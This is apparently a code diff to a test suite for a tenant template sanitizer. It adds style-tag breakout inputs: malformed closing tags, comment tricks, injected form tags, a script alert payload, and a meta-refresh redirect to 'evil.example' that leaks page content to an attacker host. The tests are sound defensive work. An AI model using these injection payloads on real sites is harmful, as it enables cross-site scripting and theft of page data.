@@ -49,8 +49,20 @@ describe('a template of a tenant', () => {
   });
 
   test('cannot end its styles early', () => {
-    const [, css] = around('<style>a{}</sty</style><style>b{}<!--</style><script>alert(1)</script>');
-    expect(css.match(/<style|<\/style|<script|<!--/g)).toEqual(['<style', '</style', '<style', '</style']);
+    for (const inside of [
+      'a{}</sty',
+      'a{}<!--',
+      'a{}</sty<!--le><meta http-equiv=refresh content="0;url=https://evil.example/?',
+      'a{}</sty-->le><form>',
+      'a{}<</style x><form>',
+      'a{}</STYLE/><form>',
+      'a{}</<!--style <form>',
+    ]) {
+      const [, css] = around(`<style>${inside}</style><style>b{}</style><script>alert(1)</script>`);
+      expect(css.match(/<style|<\/|<script/g), inside).toEqual(['<style', '</', '<style', '</']);
+    }
+    const plain = '@media (400px<width<=900px){a{background:url("data:image/svg+xml,<svg>';
+    expect(around(`<style>${plain}</svg>")}}</style>`)[1]).toContain(`${plain}<\\/svg>")}}`);
   });
 
   test('is well formed, whatever it was', () => {
